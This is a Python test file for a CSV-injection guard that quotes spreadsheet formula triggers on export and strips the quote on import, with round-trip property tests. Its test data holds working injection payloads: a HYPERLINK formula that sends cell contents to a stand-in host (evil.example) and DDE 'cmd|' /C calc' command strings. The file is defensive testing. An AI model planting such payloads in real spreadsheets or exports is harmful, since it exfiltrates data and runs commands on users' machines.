"""CSV injection: text that would start a spreadsheet formula is quoted, and unquoted on import."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.transfer.cell_guard import SUSPECT_FIRST, TRIGGERS, guard, unguard


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("@Home", "'@Home"),
        ("+41 79 123 45 67", "'+41 79 123 45 67"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("'=1+1", "''=1+1"),  # already quoted: one more quote, so the import gives it back
        # Text that looks like a number is still evaluated by a spreadsheet (a phone loses
        # its "+", "-x" runs as a formula): guarded too.
        ("-5", "'-5"),
        ("+1234567890", "'+1234567890"),
        ("+41791234567", "'+41791234567"),
        ("-12.5e3", "'-12.5e3"),
        ("-x", "'-x"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        # Left as they are: plain text, quotes before ordinary text.
        ("José", "José"),
        ("'t Hooft", "'t Hooft"),
        ("1234567890", "1234567890"),
        ("", ""),
    ],
)
def test_guard(value, written):
    assert guard(value) == written
    assert unguard(written) == value


def test_import_strips_only_the_guard_quote():
    assert unguard("'=SUM(A1:A2)") == "=SUM(A1:A2)"
    assert unguard("'@Home") == "@Home"
    assert unguard("'t Hooft") == "'t Hooft"
    assert unguard("'") == "'"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1. e"), max_size=8) | st.text(max_size=8))
def test_round_trip_is_lossless_and_inert(value):
    written = guard(value)
    assert unguard(written) == value
    assert written[:1] not in TRIGGERS, written  # nothing a spreadsheet would evaluate
    if value[:1] not in SUSPECT_FIRST:
        assert written == value  # the exporter's fast path skips such values
